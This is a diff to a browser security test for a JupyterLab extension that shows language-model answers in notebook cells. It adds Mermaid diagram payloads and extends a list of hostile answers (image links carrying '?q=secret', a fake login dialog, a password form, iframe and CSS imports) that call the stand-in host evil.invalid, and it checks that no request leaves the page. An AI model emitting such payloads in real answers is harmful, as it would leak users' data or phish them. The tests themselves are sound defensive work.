@@ -22,6 +22,16 @@ import { runRecord } from '../fixtures/run-record';
 
 const EVIL = 'https://evil.invalid';
 
+const FLOW = `flowchart TD\n  A --> B`;
+
+/** Diagrams, which JupyterLab draws from fences of Markdown: each fetches something when it is drawn. */
+const DIAGRAMS = [
+  `\`\`\`mermaid\n${FLOW}\n  B@{ img: "${EVIL}/shape.png?q=secret", label: "B" }\n\`\`\``,
+  `\`\`\`{.mermaid}\n${FLOW}\n  B["<img src='${EVIL}/label.png'>"]\n\`\`\``,
+  `~~~Mermaid\n%%{init: {"themeCSS": ".node { background: url(${EVIL}/theme.png) }"}}%%\n${FLOW}\n~~~`,
+  `- In a list:\n\n  \`\`\`mermaid\n  flowchart TD\n  A --> B@{ img: "${EVIL}/list.png" }\n  \`\`\``
+].join('\n\n');
+
 /** What an attacker would like an answer to do, each in a paragraph of its own. */
 const HOSTILE = [
   `![x](${EVIL}/image.png?q=secret)`,
@@ -35,7 +45,8 @@ const HOSTILE = [
   '<div class="jp-Dialog"><div class="jp-Dialog-content">Log in again<button>OK</button></div></div>',
   `<style>@import url(${EVIL}/style.css)</style>`,
   `<iframe src="${EVIL}/frame.html"></iframe>`,
-  `<form action="${EVIL}/form"><input name="password"></form>`
+  `<form action="${EVIL}/form"><input name="password"></form>`,
+  DIAGRAMS
 ].join('\n\n');
 
 /** What must not be in a card: whatever loads, runs, looks like JupyterLab's own or can be clicked. */
@@ -85,7 +96,7 @@ async function expectInert(
   ).toBeUndefined();
 }
 
-test('a hostile answer is inert while it streams, at its end and after a reload [H12, H13, H14]', async ({
+test('a hostile answer is inert while it streams, at its end and after a reload [H12, H13, H14, S1]', async ({
   openNotebook,
   model,
   page
@@ -121,6 +132,75 @@ test('a hostile answer is inert while it streams, at its end and after a reload 
   }
   await expectInert(notebook, attacks);
   await notebook.screenshot('security-reloaded');
+});
+
+test('a review, a plan and variants send nothing out either [S1, H14]', async ({
+  openNotebook,
+  model,
+  page
+}) => {
+  const review = {
+    summary: DIAGRAMS,
+    findings: [
+      {
+        id: 1,
+        severity: 'high',
+        title: 'Bad',
+        risk: DIAGRAMS,
+        exploit: DIAGRAMS
+      }
+    ]
+  };
+  // The texts of a plan have a limit.
+  const [diagram] = DIAGRAMS.split('\n\n');
+  const plan = {
+    goal: diagram,
+    steps: [
+      {
+        id: 'one',
+        title: 'Write it',
+        kind: 'code',
+        description: diagram,
+        dependsOn: []
+      }
+    ],
+    interfaces: [],
+    inputSchema: null,
+    outputSchema: null,
+    criteria: [diagram],
+    modules: []
+  };
+  const variant = (name: string) =>
+    say(`${DIAGRAMS}\n\n\`\`\`python code\n${name} = 1\n\`\`\`\n`);
+  model.script([
+    say(`\`\`\`json\n${JSON.stringify(review)}\n\`\`\`\n`),
+    variant('first'),
+    variant('second'),
+    say(JSON.stringify(plan))
+  ]);
+  const attacks = watchAttacks(page);
+  const notebook = await openNotebook([
+    'x = eval("1")',
+    '%%llm --review\nReview the code above.',
+    '%%llm --variants 2\nWrite a value.',
+    '%%llm --plan\nWrite a key-value store.'
+  ]);
+  expect(await notebook.run(1)).toBe(true);
+  const written = (await notebook.content()).cells[2];
+  expect(written.cell_type).toBe('markdown');
+  await expect(notebook.cell(2)).toContainText('flowchart TD');
+  // The review's cell stands above the other two now.
+  await notebook.pressRun(3);
+  const use = page.getByRole('button', { name: /^Use this one/ });
+  await expect(use).toHaveCount(2, { timeout: 60_000 });
+  await use.first().click();
+  await expect(notebook.cells).toHaveCount(6);
+  await notebook.pressRun(5);
+  await expect(
+    page.getByRole('button', { name: 'Approve plan', exact: true })
+  ).toBeVisible();
+  expect(attacks.requests).toEqual([]);
+  await notebook.screenshot('security-elsewhere');
 });
 
 const NESTED = [
